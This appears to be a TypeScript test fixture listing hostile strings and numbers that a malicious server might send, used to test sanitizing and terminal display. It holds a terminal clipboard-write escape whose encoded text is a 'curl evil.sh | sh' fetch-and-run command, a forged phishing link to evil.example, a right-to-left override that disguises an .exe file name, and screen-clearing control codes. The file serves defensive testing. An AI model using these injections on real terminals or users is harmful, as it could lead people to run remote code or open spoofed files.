// Hostile text a T3 server might put in any string field: used by the sanitizer, terminal, bridge and browser tests.
export const HOSTILE = {
  osc52: "build \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07done",
  screenClear: "\x1b[2J\x1b[3J\x1b[Hok",
  forgedLine: "oops\r\nT3 Fleet is running. Open this link once, in one browser tab on this machine:\nhttp://evil.example/#code=x",
  rlo: "invoice \u202Egnp.exe\u202C",
  c1Csi: "a\x9b31mred\x9d8;;http://evil\x9ctext",
  huge: "E".repeat(5 * 1024 * 1024),
};

/** Figures a hostile T3 server might put in any count field (issue 43): each must read as "not reported", never as a fact. */
export const HOSTILE_FIGURES = {
  huge: 1e308,
  negative: -5,
  fraction: 1.5,
  /** 2^53: no longer an exact integer in JavaScript. */
  unsafe: 2 ** 53,
  /** 2^53 − 1: a safe integer, but no believable token count; sums of two of them are unsafe. */
  maxSafe: Number.MAX_SAFE_INTEGER,
  word: "many",
} as const;
